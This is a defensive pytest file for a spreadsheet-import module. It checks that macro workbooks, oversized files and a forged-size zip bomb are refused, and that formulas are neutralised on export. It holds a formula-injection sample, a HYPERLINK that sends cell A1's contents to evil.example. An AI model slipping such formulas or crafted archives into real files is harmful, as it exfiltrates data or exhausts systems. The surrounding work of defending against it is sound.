"""Files as people really send them, and files made to do harm: read whole, or refused in words."""

import io
import struct
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from ifn.directory.models import Business
from ifn.directory.spreadsheets import text_lines, workbook
from ifn.intake import actions
from ifn.intake.actions.reading import read
from ifn.intake.mapping import Wanted, columns_of
from ifn.intake.models import Row
from ifn.intake.reading import Unreadable, refuse_at_sight, sheets_of, text, workbooks
from tests.intake import files
from tests.intake.conftest import AT

EXPECTED = [files.HEADER, *[[str(cell) for cell in row] for row in files.ROWS]]
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Lihat")'


def rows(content, name="x.xlsx"):
    (sheet,) = sheets_of(content, name)
    return sheet.rows


def refused(content, name="x.xlsx"):
    with pytest.raises(Unreadable) as fault:
        sheets_of(content, name)
    return fault.value


def sheet_of(content, xml):
    """Return a workbook whose sheet is this XML."""
    return files.rezipped(content, "xl/worksheets/sheet1.xml", lambda _part: xml)


def full_sheet(down, across):
    """Return a workbook with a number in each of so many cells, of which nothing is held twice."""
    row = b"<row>" + b"<c><v>1</v></c>" * across + b"</row>"
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (main, row * down)
    return sheet_of(files.xlsx(), xml)


def macro_workbook():
    """Return a workbook with a macro that runs when it is opened in a spreadsheet."""
    content = files.rezipped(
        files.xlsx(),
        "[Content_Types].xml",
        lambda part: part.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    return files.zipped(parts | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Workbook_Open()"})


@pytest.mark.parametrize("name", ["daftar.xlsm", "DAFTAR.XLSM", "daftar.xlsx"])
def test_the_cells_of_a_workbook_with_macros_are_read(name):
    assert rows(macro_workbook(), name) == EXPECTED


def test_a_workbook_with_macros_is_not_taken_by_another_name():
    assert refused(macro_workbook(), "x.xls").code == "not_as_named"
    assert refused(files.csv(), "x.xlsm").code == "not_as_named"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_thousand_columns_are_refused_with_the_bound(kind):
    row = [f"k{number}" for number in range(1_000)]
    content = files.csv([row]) if kind == "csv" else files.xlsx([row])

    fault = refused(content, f"x.{kind}")

    assert fault.code == "too_large"
    assert str(text.MOST_COLUMNS) in str(fault)


def test_a_thousand_columns_of_which_most_are_empty_are_as_many_as_are_used():
    def change(sheet):
        sheet.cell(row=1, column=1_000).number_format = "0.00"

    assert rows(files.xlsx(change=change)) == EXPECTED


def test_five_million_cells_are_refused_before_they_are_held(monkeypatch):
    monkeypatch.setattr(workbooks, "READER", workbooks.READER.with_name("never_reached.py"))

    fault = refused(full_sheet(100_000, 50))

    assert fault.code == "too_large"
    assert str(text.MOST_FILLED) in str(fault)


@pytest.mark.parametrize("name", ["x.xlsx", "x.xls", "x.csv"])
def test_the_bound_of_filled_cells_holds_for_every_format(monkeypatch, name):
    filled = sum(1 for row in EXPECTED for cell in row if cell)
    make = {"x.xlsx": files.xlsx, "x.xls": files.xls, "x.csv": files.csv}[name]

    for module in (text, workbooks):
        monkeypatch.setattr(module, "MOST_FILLED", filled)
    assert rows(make(), name) == EXPECTED
    for module in (text, workbooks):
        monkeypatch.setattr(module, "MOST_FILLED", filled - 1)
    assert refused(make(), name).code == "too_large"


def test_one_line_of_two_hundred_megabytes_is_refused_at_sight():
    with pytest.raises(Unreadable) as fault:
        refuse_at_sight(b"a," * 100_000_000, "x.csv")

    assert fault.value.code == "too_large"


@pytest.mark.parametrize("line", [b"a," * 10_000_000, b"a" * 20_000_000, b'"' + b"a," * 10_000_000])
def test_one_line_within_the_size_of_a_file_is_refused_as_a_line(line):
    fault = refused(b"nama,kota\r\nA,Garut\r\n" + line, "x.csv")

    assert fault.code == "too_large"
    assert "3" in str(fault)


@pytest.mark.parametrize("part", ["xl/styles.xml", "xl/worksheets/sheet1.xml"])
def test_a_part_that_unpacks_to_more_than_it_says_is_refused(part):
    bomb = bytearray(files.rezipped(files.xlsx(), part, lambda xml: xml + b" " * 50_000_000))
    for mark, size, name in [(b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)]:
        place = bomb.find(part.encode()) if name == 30 else bomb.rfind(part.encode())
        assert bomb[place - name : place - name + 4] == mark
        struct.pack_into("<I", bomb, place - name + size, 5_000)

    assert refused(bytes(bomb)).code == "damaged"


def test_a_banner_stands_above_a_header_in_row_seven():
    banner = [["DAFTAR IKM BINAAN"], [], ["Dinas Perindustrian"], ["Tahun 2025"], [], [""]]

    found = rows(files.xlsx([*banner, files.HEADER, *files.ROWS]))
    columns = columns_of(found, Wanted())

    assert columns.header_row == 6
    assert columns.header == tuple(files.HEADER)
    assert found[columns.header_row + 1][0] == "PT Langkah Satu"


def test_a_formula_in_text_is_kept_as_it_stands_and_never_leaves_as_one():
    content = files.csv([["Nama", "Kota"], [LINK, "Garut"]])

    kept = rows(content, "x.csv")

    assert kept[1] == [LINK, "Garut"]
    out = "".join(text_lines(*kept[:1], kept[1:])).encode()
    assert LINK.encode().replace(b'"', b'""') in out
    assert b'"=HYPERLINK' not in out
    assert rows(out, "x.csv") == kept  # and comes back as it was
    with workbook(kept[0], kept[1:], title="x") as file:
        cell = openpyxl.load_workbook(file).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (LINK, "s", True)


def test_a_linked_cell_of_a_workbook_gives_its_words():
    content = files.xlsx([["Nama", "Situs"], ["A", LINK]])
    saved = files.rezipped(
        content,
        "xl/worksheets/sheet1.xml",
        lambda part: part.replace(b'<c r="B2">', b'<c r="B2" t="str">').replace(
            b"<v />", b"<v>Lihat</v>"
        ),
    )

    assert rows(saved)[1] == ["A", "Lihat"]


def test_a_formula_never_reckoned_or_failed_gives_nothing():
    def change(sheet):
        sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"] = "=1+1", "#N/A", "#REF!", "x"

    content = files.xlsx([["Nama", "b", "c", "d", "e"], ["A"]], change=change)

    assert rows(content)[1] == ["A", "", "", "", "x"]


def test_what_a_failed_formula_shows_is_stated_by_nobody(reference, incoming):
    list_ = [["Nama", "Kota", "Alamat"], ["#REF!", "Garut", "Jl. A 1"], ["B", "Garut", "#N/A"]]

    outcome = actions.load(incoming(files.csv(list_)), actor=None, at=AT)

    assert [(row.state, row.reason) for row in outcome.rows] == [
        ("error", "no_name"),
        ("applied", ""),
    ]
    assert Business.objects.get().address == ""
    assert Row.objects.get(position=2).raw == list_[1]


@pytest.mark.parametrize("style", ["yyyy-mm-dd", "dd/mm/yyyy", "d mmmm yyyy", "mmm-yy"])
def test_a_day_is_the_same_day_however_it_is_shown(style):
    def change(sheet):
        sheet["A1"] = date(2024, 5, 1)
        sheet["A1"].number_format = style
        sheet["A2"] = datetime(2024, 5, 1, 13, 30)  # noqa: DTZ001  # workbooks know no zones
        sheet["A2"].number_format = f"{style} hh:mm"

    assert rows(files.xlsx([[""]], change=change)) == [["2024-05-01"], ["2024-05-01T13:30:00"]]


@pytest.mark.parametrize(
    ("written", "year"),
    [("2010-05-01", 2010), ("01/05/2010", 2010), ("1 Mei 2010", 2010), ("May 1, 2010", 2010),
     ("1.5.2010", 2010), ("2010-05-01T13:30:00", 2010), ("2010", 2010), ("sejak 1998", 1998),
     ("1-5-10", None), ("2010-2015", None), ("40299", None), ("12 May", None)],
)  # fmt: skip
def test_the_year_is_read_from_days_in_every_style(reference, incoming, written, year):
    content = files.csv([["Nama", "Kota", "Tahun berdiri"], ["A", "Garut", written]])

    outcome = actions.load(incoming(content), actor=None, at=AT)

    assert Business.objects.get().founded_year == year
    notes = outcome.rows[0].details["notes"]
    dropped = [note["field"] for note in notes if note["code"] == "dropped"]
    assert dropped == ([] if year else ["founded_year"])


def test_numbers_kept_as_text_and_text_kept_as_numbers_mean_the_same(reference, incoming):
    header = ["Nama", "Kota", "No HP", "NIB", "Kode Pos", "Jumlah Pekerja"]
    numbers = ["A", "Garut", 81234567890, 9120001234567, 44151, 392]
    words = ["B", "Garut", "0812-3456-7890", "9120001234567", "'44151", "392 orang"]

    actions.load(incoming(files.xlsx([header, numbers, words]), "x.xlsx"), actor=None, at=AT)

    found = Business.objects.order_by("name").values_list("nib", "postcode", "workers")
    assert list(found) == [("9120001234567", "44151", 392)] * 2
    assert [[one.value for one in each.contacts.all()] for each in Business.objects.all()] == [
        ["+6281234567890"]
    ] * 2


def test_a_number_of_sixteen_digits_keeps_its_digits():
    assert rows(files.xlsx([[3578012345670001.0]])) == [["3578012345670001"]]


def test_of_columns_with_one_header_the_first_is_taken_and_all_are_kept():
    found = rows(files.csv([["Nama", "Telepon", "Telepon"], ["A", "021 555 1234", "x"]]), "x.csv")

    columns = columns_of(found, Wanted())

    assert columns.fields["phone"] == 1
    assert columns.header == ("Nama", "Telepon", "Telepon")
    assert columns_of(found, Wanted(fields={"phone": 2})).fields["phone"] == 2


def test_empty_rows_stay_where_they_are_and_are_no_rows_of_the_list(reference, incoming):
    list_ = [[], files.HEADER, [], files.ROWS[0], ["", " ", ""], files.ROWS[1], [], []]

    for content, name in [(files.xlsx(list_), "x.xlsx"), (files.csv(list_), "x.csv")]:
        outcome = actions.propose(incoming(content, name), at=AT)
        assert [row.position for row in outcome.rows] == [4, 6]


def test_a_header_merged_over_columns_and_a_value_over_rows(reference, incoming):
    def change(sheet):
        sheet.merge_cells("A1:C1")
        sheet.merge_cells("C3:C4")

    list_ = [["Daftar", "", ""], ["Nama", "Alamat", "Kota"], ["A", "Jl. A 1", "Garut"],
             ["B", "Jl. B 2", ""]]  # fmt: skip

    outcome = actions.propose(incoming(files.xlsx(list_, change=change), "x.xlsx"), at=AT)

    assert [(row.name, row.region_id) for row in outcome.rows] == [("A", "32.05"), ("B", "32.05")]


def test_of_several_sheets_the_longest_is_read_unless_one_is_named():
    book = openpyxl.Workbook()
    book.active.title = "Petunjuk"
    book.active.append(["Isi sheet Data"])
    data = book.create_sheet("Data")
    for row in EXPECTED:
        data.append(row)
    content = files.saved(book)

    sheets, meant = read(content, "x.xlsx", "")
    assert ([sheet.name for sheet in sheets], meant.name) == (["Petunjuk", "Data"], "Data")
    assert read(content, "x.xlsx", "petunjuk ")[1].rows == [["Isi sheet Data"]]
    with pytest.raises(Unreadable, match="Petunjuk, Data"):
        read(content, "x.xlsx", "Lain")
